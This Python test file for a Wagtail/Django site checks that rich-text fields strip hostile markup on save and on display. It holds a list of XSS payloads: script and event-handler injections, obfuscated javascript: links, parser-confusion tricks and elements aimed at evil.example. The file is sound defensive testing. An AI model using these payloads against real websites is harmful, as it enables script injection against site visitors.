"""Rich text written by code keeps what the editor makes, and nothing else, wherever it is shown.

Every payload below hides "pwned" where it would act (script, event handler, address, style,
element): once cleaned, the word is gone. Each payload is written into every kind of field that
holds HTML: a RichTextField on a page and on a snippet, a paragraph block, and rich text inside
the blocks of a method's steps and a story's two-language text.
"""

import json

from django.contrib.auth import get_user_model
from django.test import TestCase
from django.urls import reverse

from wagtail.models import Locale, Revision

import pytest

from stories.models import StoryPage
from tests.factories import ExhibitionIndexPageFactory, StandardPageFactory, build_site
from tests.news.factories import publish
from tests.stories.consent_helpers import make_participant, story_of
from tests.toolbox.factories import MethodPageFactory, ToolboxPageFactory
from website.core.models import FooterText
from website.markup import clean_html, render_html

MARK = "pwned"
PAYLOADS = [
    # Found by the outside test.
    "<!--><img src=x onerror=pwned()>-->",
    '<iframe src="https://evil.example/pwned"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/pwned">',
    '<form action="https://evil.example/pwned"><button formaction="/pwned">Senden</button></form>',
    '<style>body { background: url("https://evil.example/pwned") }</style>',
    '<object data="javascript:pwned()"></object>',
    '<svg><animate attributeName="href" values="javascript:pwned()"/><text>SVG</text></svg>',
    # Script in its usual forms.
    "<script>pwned()</script>",
    '<SCRIPT SRC="https://evil.example/pwned.js"></SCRIPT>',
    "<img src=x onerror=pwned()>",
    '<a href="https://example.org/" onclick="pwned()">Klick</a>',
    "<details open ontoggle=pwned()>Mehr</details>",
    # Link addresses a browser would run.
    '<a href="javascript:pwned()">js</a>',
    '<a href="JaVaScRiPt:pwned()">js</a>',
    '<a href="  javascript:pwned()">js</a>',
    '<a href="java\tscript:pwned()">js</a>',
    '<a href="java&#x09;script:pwned()">js</a>',
    '<a href="&#106;avascript:pwned()">js</a>',
    '<a href="&#x6A;&#x61;vascript:pwned()">js</a>',
    '<a href="javascript&colon;pwned()">js</a>',
    '<a href="\x01javascript:pwned()">js</a>',
    '<a href="vbscript:pwned()">vb</a>',
    '<a href="data:text/html,&lt;script&gt;pwned()&lt;/script&gt;">data</a>',
    '<img src="data:image/svg+xml,&lt;svg onload=pwned()&gt;">',
    '<svg><a xlink:href="javascript:pwned()"><text>svg</text></a></svg>',
    '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">m</maction></math>',
    '<math href="javascript:pwned()">m</math>',
    # Elements that change the page around them.
    '<base href="https://evil.example/pwned/">',
    '<link rel="stylesheet" href="https://evil.example/pwned.css">',
    '<iframe srcdoc="&lt;script&gt;pwned()&lt;/script&gt;"></iframe>',
    '<p style="background: url(javascript:pwned())">Stil</p>',
    '<p class="pwned" id="pwned" title="pwned" lang="pwned" data-pwned="1">Attribute</p>',
    '<a href="https://example.org/" target="pwned" rel="pwned" download="pwned">Ziel</a>',
    '<embed src="https://evil.example/pwned.swf">',
    "<template><img src=x onerror=pwned()></template>",
    # Wagtail's own tags with what Wagtail would trip over or make.
    '<a linktype="pwned" id="1">Art</a>',
    '<a linktype="page" id="1 pwned">Seite</a>',
    '<embed embedtype="image" id="1" format="pwned"/>',
    # Parsers that disagree.
    "<!-- <!-- --><img src=x onerror=pwned()> -->",
    "<!--[if IE]><script>pwned()</script><![endif]-->",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<xmp><img src=x onerror=pwned()></xmp>",
    "<textarea><img src=x onerror=pwned()></textarea>",
    # Unclosed: the rest of the text is theirs.
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    '<p>Offen <b>fett <a href="javascript:pwned()">Link',
    "<img src=x onerror=pwned()",
]


def good(label, page_id):
    """What the editor makes, in Wagtail's database format."""
    return (
        f'<p data-block-key="gut01">{label}: <b>fett</b>, <i>kursiv</i>,<br>'
        f'<a href="https://example.org/?a=1&amp;b=2">extern</a>, '
        f'<a linktype="page" id="{page_id}">intern</a></p>'
        '<ul><li data-block-key="gut02">Liste</li></ul>'
    )


def shown(label, page_url):
    """The same as visitors get it."""
    return (
        f"<p>{label}: <b>fett</b>, <i>kursiv</i>,<br>"
        '<a href="https://example.org/?a=1&amp;b=2">extern</a>, '
        f'<a href="{page_url}">intern</a></p><ul><li>Liste</li></ul>'
    )


def in_one_text(label, page_id):
    return good(label, page_id) + "".join(PAYLOADS)


def one_block_each(label):
    """(visible text, payload) for one block per payload: none can swallow another."""
    return [(f"{label} {n}", payload) for n, payload in enumerate(PAYLOADS)]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.django_db
def test_the_cleaner_removes_every_payload(payload):
    assert MARK not in clean_html(payload).lower()
    assert MARK not in render_html(payload).lower()


def test_what_the_editor_makes_is_stored_as_it_is():
    editor_html = (
        good("Gut", 3) + '<p data-block-key="gut04"><a linktype="document" id="4">Dokument</a>, '
        '<a href="mailto:team@example.org">Mail</a>, <a href="tel:+493671123">Telefon</a>, '
        '<a href="/geschichten/">relativ</a>, <a href="#weiter">Anker</a></p>'
        '<ol><li data-block-key="gut05">eins<ol><li data-block-key="gut06">zwei</li></ol></li></ol>'
    )
    assert clean_html(editor_html) == editor_html


def strings(data):
    """Every string in a field's stored value (a text, or a stream's JSON-ish data)."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for value in data.values():
            yield from strings(value)
    elif isinstance(data, list):
        for value in data:
            yield from strings(value)


class HostileMarkupTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        home = build_site()["de"]
        cls.admin = get_user_model().objects.create_superuser("admin", "admin@example.org", "x")
        cls.target = publish(ExhibitionIndexPageFactory(parent=home))
        cls.standard = publish(StandardPageFactory(parent=home, slug="absaetze"))
        cls.method = publish(MethodPageFactory(parent=publish(ToolboxPageFactory(parent=home))))
        cls.story = story_of(home, make_participant("Amal (Pseudonym)"))
        cls.footer = FooterText.objects.create(locale=Locale.get_default(), text="<p>Fußzeile</p>")

    def fields(self):
        """(page, field, value as code writes it, label of the editor's markup in it)."""
        target = self.target.pk
        return [
            (self.target, "intro", in_one_text("Einleitung", target), "Einleitung"),
            (
                self.standard,
                "body",
                [{"type": "paragraph", "value": good("Absatz", target)}]
                + [
                    {"type": "paragraph", "value": f"<p>{text}</p>{payload}"}
                    for text, payload in one_block_each("Absatz")
                ],
                "Absatz",
            ),
            (self.method, "preparation", in_one_text("Vorbereitung", target), "Vorbereitung"),
            (
                self.method,
                "steps",
                [
                    {
                        "type": "step",
                        "value": {
                            "title": text,
                            "instructions": good("Anleitung", target) + payload,
                        },
                    }
                    for text, payload in one_block_each("Schritt")
                ],
                "Anleitung",
            ),
            (
                self.story,
                "body",
                [
                    {
                        "type": "bilingual",
                        "value": {
                            "text": f"<p>{text}</p>{payload}",
                            "language": "ar",
                            "own_text": good("Eigene Worte", target) + payload,
                        },
                    }
                    for text, payload in one_block_each("Erzählt")
                ],
                "Eigene Worte",
            ),
        ]

    def visible(self):
        """What each page must still show: the editor's markup and every block's text."""
        url = self.target.url
        return {
            self.target: [shown("Einleitung", url)],
            self.standard: [shown("Absatz", url)]
            + [text for text, _payload in one_block_each("Absatz")],
            self.method: [shown("Vorbereitung", url), shown("Anleitung", url)]
            + [text for text, _payload in one_block_each("Schritt")],
            self.story: [shown("Eigene Worte", url)]
            + [text for text, _payload in one_block_each("Erzählt")],
        }

    def assert_clean(self, url, expected):
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200, url)
        markup = response.content.decode()
        self.assertNotIn(MARK, markup.lower(), url)
        for text in [shown("Fußzeile", self.target.url), *expected]:
            self.assertIn(text, markup, url)

    def assert_stored_clean(self, value, label, where):
        found = list(strings(value))
        self.assertFalse([text for text in found if MARK in text.lower()], where)
        editor_markup = good(label, self.target.pk)
        self.assertTrue(any(editor_markup in text for text in found), where)

    def test_code_saves_only_what_the_editor_could_make(self):
        for page, name, value, label in self.fields():
            page = page.specific_class.objects.get(pk=page.pk)
            setattr(page, name, value)
            revision = page.save_revision()
            revision.publish()
            stored = page.specific_class.objects.get(pk=page.pk)
            value = getattr(stored, name)
            self.assert_stored_clean(
                value if isinstance(value, str) else list(value.raw_data), label, (page, name)
            )
            content = Revision.objects.get(pk=revision.pk).content[name]
            if not isinstance(value, str):
                content = json.loads(content)
            self.assert_stored_clean(content, label, (revision, name))

        footer = FooterText.objects.get(pk=self.footer.pk)
        footer.text = in_one_text("Fußzeile", self.target.pk)
        footer.save()
        self.assert_stored_clean(FooterText.objects.get(pk=footer.pk).text, "Fußzeile", footer)

    def test_text_stored_past_save_is_shown_clean_everywhere(self):
        # As an importer or a data migration writes it: into the rows and the revisions.
        FooterText.objects.filter(pk=self.footer.pk).update(
            text=in_one_text("Fußzeile", self.target.pk)
        )
        for page, name, value, _label in self.fields():
            model = page.specific_class
            stored = json.dumps(value) if isinstance(value, list) else value
            model.objects.filter(pk=page.pk).update(**{name: stored})
            revision = Revision.objects.get(pk=page.latest_revision_id)
            revision.content[name] = stored
            Revision.objects.filter(pk=revision.pk).update(content=revision.content)
        self.assertIn(MARK, str(StoryPage.objects.get(pk=self.story.pk).body.raw_data))

        visible = self.visible()
        for page in visible:
            self.assert_clean(page.url, visible[page])
        self.client.force_login(self.admin)
        for page in visible:
            revision = [page.pk, page.latest_revision_id]
            for url in (
                reverse("wagtailadmin_pages:view_draft", args=[page.pk]),
                reverse("wagtailadmin_pages:revisions_view", args=revision),
            ):
                self.assert_clean(url, visible[page])
